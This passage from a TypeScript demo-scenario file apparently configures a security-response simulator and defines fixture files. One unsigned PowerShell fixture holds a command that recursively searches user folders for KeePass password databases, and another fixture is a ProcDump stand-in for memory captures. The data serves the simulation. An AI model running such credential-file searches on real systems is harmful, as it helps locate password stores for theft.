      fileName: "Unsigned-Tool.ps1",
      description: "Demo: an unsigned script (fails while unsigned script execution is off)",
      creationTime: CREATED,
      signed: false,
      content: "Get-ChildItem C:\\Users -Recurse -Filter *.kdbx -ErrorAction SilentlyContinue\n",
      behaviour: { output: "Searching for password databases...\n", durationSeconds: 3 },
    },
    {
      fileName: "procdump64.exe",
      description: "Sysinternals ProcDump (x64) for memory captures; use with PutFile",
      creationTime: CREATED,
      content:
        "Demo stand-in for Sysinternals ProcDump v11.0 (procdump64.exe); the simulator never runs it.\n",
    },
  ],
};

/** The demo tenant, validated (and given its defaults) by the scenario schema. */
export function defaultScenario(): Scenario {
  return parseScenario(structuredClone(DEMO_SCENARIO), "the default demo scenario");
}
